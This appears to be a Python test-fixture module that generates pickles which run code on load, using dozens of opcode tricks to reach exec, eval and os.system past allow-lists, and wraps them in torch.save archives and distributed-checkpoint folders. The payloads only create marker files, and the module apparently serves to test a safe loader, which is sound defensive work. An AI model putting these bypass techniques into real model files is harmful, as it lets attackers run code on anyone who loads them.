"""Pickles that run code when they are loaded, each in another way, and files that have them inside.

Each makes a file if it runs; `pickle.loads` does run them, which tests look at too.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from typing import Any, NamedTuple

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import (
    BytesStorageMetadata,
    ChunkStorageMetadata,
    Metadata,
    MetadataIndex,
    TensorProperties,
    TensorStorageMetadata,
)

EXTENSION = 0xF0  # registered by tests alone
FILES = "torch.distributed.checkpoint.filesystem"
CLASSES = "torch.distributed.checkpoint.metadata"


class Trap:
    """Runs code when it is unpickled."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return eval, (f"exec({self.code!r})",)  # exec is in the extension registry


# --- opcodes ---------------------------------------------------------------------------------


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name(module: str, qualified: str) -> bytes:
    return short(module) + short(qualified) + b"\x93"


def framed(body: bytes, protocol: int = 4) -> bytes:
    return bytes([0x80, protocol, 0x95]) + struct.pack("<Q", len(body)) + body


def by_dots(module: str, path: str, code: str) -> bytes:
    """A function's builtins, by a dotted name: their `get` gives `eval`."""
    run = f"exec({code!r})"
    get = name(module, f"{path}.__builtins__.get")
    return framed(get + short("eval") + b"\x85R" + text(run) + b"\x85R.")


def attacks(mark: str) -> dict[str, bytes]:
    """Pickles that make a file each, with this name and theirs."""
    made: dict[str, bytes] = {}

    def code(kind: str) -> str:
        return f"open({mark + kind!r}, 'w').close()"

    def add(kind: str, build: Any) -> None:
        own = kind.replace(" ", "_").replace(".", "_")
        made[own] = build(code(own))

    add("0 GLOBAL REDUCE", lambda c: b"cbuiltins\nexec\n(V" + c.encode() + b"\ntR.")
    add("0 INST", lambda c: b"(V" + c.encode() + b"\nibuiltins\nexec\n.")
    add("0 OBJ", lambda c: b"(cbuiltins\nexec\nV" + c.encode() + b"\no.")
    add("0 STRING", lambda c: b'cbuiltins\nexec\n(S"' + c.encode() + b'"\ntR.')
    add("2 GLOBAL", lambda c: b"\x80\x02cbuiltins\nexec\n" + text(c) + b"\x85R.")
    add(
        "2 names of Python 2",
        lambda c: b"\x80\x02c__builtin__\neval\n" + text(f"exec({c!r})") + b"\x85R.",
    )
    add("3 GLOBAL", lambda c: b"\x80\x03cbuiltins\nexec\n" + text(c) + b"\x85R.")
    add("4 STACK_GLOBAL", lambda c: framed(name("builtins", "exec") + text(c) + b"\x85R."))
    add("5 STACK_GLOBAL", lambda c: framed(name("builtins", "exec") + text(c) + b"\x85R.", 5))
    add(
        "4 os.system",
        lambda c: framed(name("os", "system") + text("touch " + c.split("'")[1]) + b"\x85R."),
    )
    add(
        "4 POP DUP",
        lambda c: framed(b"N0" + name("builtins", "exec") + b"20" + text(c) + b"\x85R."),
    )
    add(
        "4 NEWOBJ",
        lambda c: framed(
            name("builtins", "tuple") + name("builtins", "map") + name("builtins", "exec")
            + b"]" + text(c) + b"a\x86\x81\x85\x81."
        ),
    )  # fmt: skip
    add(
        "4 NEWOBJ_EX",
        lambda c: framed(
            name("builtins", "tuple") + name("builtins", "map") + name("builtins", "exec")
            + b"]" + text(c) + b"a\x86}\x92\x85}\x92."
        ),
    )  # fmt: skip
    add(
        "4 BUILD with __setstate__",
        lambda c: framed(
            name("functools", "partial") + name("builtins", "print") + b"\x85\x81("
            + name("builtins", "exec") + text(c) + b"\x85}Ntb)R."
        ),
    )  # fmt: skip
    add(
        "4 BUILD of an allowed class",  # its hash runs when it is the key of a dict
        lambda c: framed(
            name(CLASSES, "MetadataIndex") + b"N}" + short("__hash__")
            + name("functools", "partial") + name("builtins", "exec") + text(c) + b"\x86R"
            + b"s\x86b0}" + name(CLASSES, "MetadataIndex") + b")\x81" + b"Ns."
        ),
    )  # fmt: skip
    add(
        "2 EXT1",
        lambda c: b"\x80\x02\x82" + bytes([EXTENSION]) + text(c) + b"\x85R.",
    )
    add(
        "2 EXT4",
        lambda c: b"\x80\x02\x84" + struct.pack("<i", EXTENSION) + text(c) + b"\x85R.",
    )
    add("2 memo", lambda c: b"\x80\x02cbuiltins\nexec\nq\x070Nq\x080h\x07" + text(c) + b"\x85R.")
    add(
        "4 memo written again",
        lambda c: framed(
            name(CLASSES, "Metadata") + b"q\x000" + name("builtins", "exec") + b"q\x000"
            + b"h\x00" + text(c) + b"\x85R."
        ),
    )  # fmt: skip
    add("4 getattr", lambda c: framed(
        name("builtins", "getattr") + name("builtins", "print") + short("__self__") + b"\x86R0"
        + name("builtins", "getattr") + name("builtins", "getattr")
        + name("builtins", "print") + short("__self__") + b"\x86R" + short("exec") + b"\x86R"
        + text(c) + b"\x85R."
    ))  # fmt: skip
    add("4 pickle in a pickle", lambda c: framed(
        name("_pickle", "loads") + b"B" + struct.pack("<I", len(pickle.dumps(Trap(c))))
        + pickle.dumps(Trap(c)) + b"\x85R."
    ))  # fmt: skip
    dotted = {
        FILES: ("FileSystem.create_stream", "_StorageInfo.__init__"),
        CLASSES: ("Metadata.__init__", "TensorProperties.__setstate__", "MetadataIndex.__init__"),
        "torch.distributed.checkpoint.planner": ("SavePlan.__init__", "WriteItem.__repr__"),
        "torch.serialization": ("_get_layout",),
        "torch._utils": ("_rebuild_tensor_v2",),
        "torch": ("Tensor.backward",),
        "collections": ("Counter.update",),
        "pathlib": ("PosixPath.open",),
    }
    for module, paths in dotted.items():
        for path in paths:
            add(f"4 dots {module} {path}", lambda c, m=module, p=path: by_dots(m, p, c))
    add("4 dots to a module", lambda c: framed(
        name(FILES, "os.system") + text("touch " + c.split("'")[1]) + b"\x85R."
    ))  # fmt: skip
    for protocol in range(6):
        add(
            f"{protocol} in planner_data",
            lambda c, p=protocol: pickle.dumps(Metadata({}, {"a": [(Trap(c),)]}, {}), p),
        )
    add("4 in entries", lambda c: pickle.dumps(Metadata({"w": Trap(c)}, None, {}), 4))
    add("4 in storage_data", lambda c: pickle.dumps(Metadata({}, None, {"w": Trap(c)}), 4))
    add("4 a key", lambda c: pickle.dumps(Metadata({}, None, {Trap(c): 1}), 4))
    add("4 a chunk", lambda c: pickle.dumps(metadata_of({"w": torch.ones(2)}, sizes=Trap(c))[0], 4))
    add("5 in a set", lambda c: pickle.dumps({"state": {Trap(c)}, "param_groups": []}, 5))
    add("2 in a state dict", lambda c: pickle.dumps({"w": Trap(c)}, 2))
    return made


# --- files -----------------------------------------------------------------------------------


def archive(data: bytes, records: dict[str, bytes] | None = None, method: int = 0) -> bytes:
    """A file of torch.save with this data.pkl."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as opened:
        opened.writestr("archive/data.pkl", data)
        opened.writestr("archive/byteorder", "little")
        for key, content in (records or {}).items():
            opened.writestr(f"archive/{key}", content)
        opened.writestr("archive/version", "3\n")
    return file.getvalue()


def saved(value: Any) -> bytes:
    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()


class Folder(NamedTuple):
    metadata: Metadata
    data: bytes  # of the one file


def metadata_of(
    tensors: dict[str, torch.Tensor],
    objects: dict[str, bytes] | None = None,
    sizes: Any = None,
    bodies: dict[str, bytes] | None = None,
) -> Folder:
    """A folder of torch.distributed.checkpoint, written by its format."""
    entries: dict[str, Any] = {}
    places: dict[MetadataIndex, _StorageInfo] = {}
    data = b""
    for key, tensor in tensors.items():
        at = torch.Size([0] * tensor.ndim)
        body = (bodies or {}).get(key, saved(tensor))
        body += bytes(max(0, tensor.nbytes - len(body)))  # as long as it is announced
        chunk = ChunkStorageMetadata(at, tensor.shape if sizes is None else sizes)
        properties = TensorProperties(dtype=tensor.dtype)
        entries[key] = TensorStorageMetadata(properties, tensor.shape, [chunk])
        places[MetadataIndex(key, at)] = _StorageInfo("__0_0.distcp", len(data), len(body))
        data += body
    for key, body in (objects or {}).items():
        entries[key] = BytesStorageMetadata()
        places[MetadataIndex(key)] = _StorageInfo("__0_0.distcp", len(data), len(body))
        data += body
    return Folder(Metadata(entries, None, places), data)
